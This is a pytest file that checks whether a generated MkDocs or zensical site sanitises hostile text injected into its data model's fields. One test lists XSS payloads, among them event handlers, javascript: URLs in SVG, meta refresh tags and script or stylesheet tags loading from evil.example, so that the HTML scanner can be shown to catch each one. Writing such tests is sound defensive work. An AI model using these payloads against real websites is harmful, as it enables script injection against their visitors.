"""Hostile text in every field of the model never becomes script on the site (issue: security).

Every text field found from the model (see :mod:`tests.injection`) carries script
payloads; the site is built for real with MkDocs and every page, SVG and search-index
entry is scanned for event handlers, script elements and script URLs. The payloads
must still be there, as text a reader can see.
"""

from __future__ import annotations

from pathlib import Path

import pytest
from bs4 import BeautifulSoup

from lea_site.load import load

from .conftest import DATA, DEMO_TODAY, FIXTURE_TODAY, FIXTURES
from .injection import PAYLOADS, SINGLE, VISIBLE, inject, scan_html, scan_site
from .sitebuild import build, lea, site_folder

CASES = [("demo", DATA, DEMO_TODAY, name) for name in PAYLOADS if name != "all"]
CASES += [(p.name, p, FIXTURE_TODAY, "all") for p in sorted(FIXTURES.iterdir()) if p.is_dir()]


@pytest.mark.parametrize("site,data,today,payload", CASES, ids=[f"{c[0]}-{c[3]}" for c in CASES])
def test_no_script_from_any_text_field(tmp_path: Path, site: str, data: Path, today, payload: str):
    injector = inject(data, tmp_path / "data", PAYLOADS[payload], SINGLE)
    assert len(injector.fields) > 40, "the payload reached too few fields to prove anything"
    checked = load(tmp_path / "data", today)
    assert not checked.errors, "\n".join(map(str, checked.errors[:10]))
    run = build(tmp_path / "data", tmp_path / "out", today.isoformat(), strict=False)
    assert run.returncode == 0, run.stderr[-3000:]
    out = tmp_path / "out" / "site"
    findings = scan_site(out)
    assert not findings, "\n".join(findings[:30])
    shown = " ".join(BeautifulSoup(p.read_text(encoding="utf-8"), "html.parser").get_text(" ") for p in out.rglob("*.html"))
    assert VISIBLE[payload] in shown, "the payload should be shown as text"
    if site == "demo":
        # Text fields the demo fills show up on the site, as text (not only in attributes).
        reached = {where for n, where in injector.fields.items() if f"F{n}Q" in shown}
        for field in ("ProgressNote.tekst", "Action.titel", "Action.beschrijving", "Ambition.pijlers", "Partner.naam",
                      "Party.rol", "Naming.enkelvoud", "Indicator.eenheid", "Body.taken", "AgendaInfo.visie",
                      # issue 12: governance, key figures and partners as they are
                      "Body.omvang", "Body.verslag", "Body.voorzitterschap", "Body.vervangt", "Indicator.definitie",
                      "Comparison.label", "Part.label", "Partner.soort"):
            assert field in reached, field


def test_scanner_finds_what_it_looks_for():
    # The scanner is the test's eyes: it must see each kind of attack.
    attacks = ['<p ONFOCUS="alert(1)">', '<script src="//evil.example/x.js"></script>', '<p style="background:url(javascript:x)">',
               "<style>@import url(//evil.example/a.css)</style>", '<link rel="stylesheet" href="//evil.example/a.css">',
               '<form action="https://evil.example/">', '<svg><animate attributeName="href" values="javascript:x"/></svg>',
               '<svg><set attributeName="xlink:href" to="javascript:x"/></svg>', '<meta http-equiv=" Refresh" content="0">',
               '<meta http-equiv="Set-Cookie" content="a=b">', '<iframe srcdoc="x">', '<p onfocus="alert(1)">', '<a href=" JaVa&#x0A;script:alert(1)">', '<img src="data:image/svg+xml,x">',
               "<script>alert(1)</script>", "<iframe></iframe>", "<p autofocus>", "42XQ", '<svg><a xlink:href="javascript:x">']
    for attack in attacks:
        assert scan_html(attack, "x"), attack
    assert not scan_html('<p title="onfocus=alert(1)">&lt;script&gt;</p><a href="../x/">x</a>', "x")


@pytest.mark.parametrize("engine", ["mkdocs", "zensical"])
def test_no_script_through_lea_build_on_either_engine(tmp_path: Path, engine: str):
    # The shipped path: lea build writes the config (nav titles, the agenda's title) and runs the engine.
    if engine == "zensical":
        pytest.importorskip("zensical", reason="pip install -e '.[zensical]'")
    inject(DATA, tmp_path / "data", PAYLOADS["all"], SINGLE)
    folder = site_folder(tmp_path / "site", tmp_path / "data")
    run = lea("build", "--engine", engine, cwd=folder, today=DEMO_TODAY)
    assert run.returncode == 0, run.stderr[-3000:]
    out = folder / "site"
    assert any(out.rglob("search*.json")), "the search index is scanned too"
    findings = scan_site(out)
    assert not findings, "\n".join(findings[:30])
    shown = " ".join(BeautifulSoup(p.read_text(encoding="utf-8"), "html.parser").get_text(" ") for p in out.rglob("*.html"))
    assert VISIBLE["all"] in shown
